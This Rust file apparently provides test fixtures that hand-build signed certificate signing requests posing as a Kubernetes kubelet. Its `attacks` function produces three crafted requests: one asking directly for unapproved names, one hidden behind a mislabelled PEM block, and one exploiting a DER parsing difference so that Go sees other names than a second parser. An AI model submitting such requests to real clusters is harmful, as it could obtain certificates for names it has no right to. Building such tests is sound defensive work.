//! Certificate requests as an attacker writes them: every piece by hand, but signed with the correct key.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use rcgen::{KeyPair, PublicKeyData as _, SigningKey as _};
use std::net::IpAddr;

/// A piece of DER: tag, length, content.
pub fn tlv(tag: u8, parts: &[&[u8]]) -> Vec<u8> {
    let body = parts.concat();
    let mut out = vec![tag];
    match u8::try_from(body.len()) {
        Ok(length @ 0..=127) => out.push(length),
        Ok(length) => out.extend([0x81, length]),
        Err(_) => {
            let length = u16::try_from(body.len()).expect("a request is short");
            out.push(0x82);
            out.extend(length.to_be_bytes());
        }
    }
    out.extend(body);
    out
}

const EXTENSION_REQUEST: &[u8] = &[6, 9, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 1, 9, 14];
const SUBJECT_ALT_NAME: &[u8] = &[6, 3, 0x55, 0x1d, 0x11];
const ECDSA_WITH_SHA256: &[u8] = &[6, 8, 0x2a, 0x86, 0x48, 0xce, 0x3d, 4, 3, 2];

/// A list with one extension, these names (`DNS:w1`, `IP:10.0.0.1`).
pub fn extensions(names: &[&str]) -> Vec<u8> {
    let name = |name: &&str| match name.split_once(':') {
        Some(("IP", ip)) => match ip.parse().expect("an address") {
            IpAddr::V4(ip) => tlv(0x87, &[&ip.octets()]),
            IpAddr::V6(ip) => tlv(0x87, &[&ip.octets()]),
        },
        Some((_, dns)) => tlv(0x82, &[dns.as_bytes()]),
        None => panic!("{name} is of no kind"),
    };
    let names: Vec<u8> = names.iter().flat_map(name).collect();
    let value = tlv(4, &[&tlv(0x30, &[&names])]);
    tlv(0x30, &[&tlv(0x30, &[SUBJECT_ALT_NAME, &value])])
}

/// The attribute that requests names, in its usual form.
pub fn proper(names: &[&str]) -> Vec<u8> {
    tlv(0x30, &[EXTENSION_REQUEST, &tlv(0x31, &[&extensions(names)])])
}

/// The same with an empty set before the names: some parsers read the names, Go's does not.
pub fn odd(names: &[&str]) -> Vec<u8> {
    tlv(0x30, &[EXTENSION_REQUEST, &tlv(0x31, &[]), &extensions(names)])
}

/// The signed part: a kubelet's subject, a key, attributes.
pub fn info(key: &KeyPair, user: &str, attributes: &[Vec<u8>]) -> Vec<u8> {
    let part = |oid: u8, text: &str| tlv(0x31, &[&tlv(0x30, &[&[6, 3, 0x55, 4, oid], &tlv(0x13, &[text.as_bytes()])])]);
    let subject = tlv(0x30, &[&part(10, "system:nodes"), &part(3, user)]);
    tlv(0x30, &[&[2, 1, 0], &subject, &key.subject_public_key_info(), &tlv(0xa0, &[&attributes.concat()])])
}

/// A request with a valid signature and arbitrary content.
pub fn signed(key: &KeyPair, info: &[u8]) -> Vec<u8> {
    let signature = key.sign(info).expect("it signs");
    tlv(0x30, &[info, &tlv(0x30, &[ECDSA_WITH_SHA256]), &tlv(3, &[&[0], &signature])])
}

/// A PEM block that begins as a certificate request and ends with this label.
pub fn pem(der: &[u8], end: &str) -> String {
    let text = STANDARD.encode(der);
    let lines: Vec<&str> = text.as_bytes().chunks(64).map(|line| std::str::from_utf8(line).expect("base64")).collect();
    format!("-----BEGIN CERTIFICATE REQUEST-----\n{}\n-----END {end}-----\n", lines.join("\n"))
}

/// The label of an honest block.
pub const LABEL: &str = "CERTIFICATE REQUEST";

/// Three requests that were approved once, or would be by a careless reader, each with its name: one parser reads
/// `good`, the other `evil`.
pub fn attacks(key: &KeyPair, user: &str, good: &[&str], evil: &[&str]) -> [(&'static str, String); 3] {
    let request = |attributes: &[Vec<u8>]| signed(key, &info(key, user, attributes));
    let (plain, honest) = (request(&[proper(evil)]), request(&[proper(good)]));
    [
        ("plain", pem(&plain, LABEL)),
        ("pem", pem(&honest, "X") + &pem(&plain, LABEL)),
        ("der", pem(&request(&[odd(good), proper(evil)]), LABEL)),
    ]
}
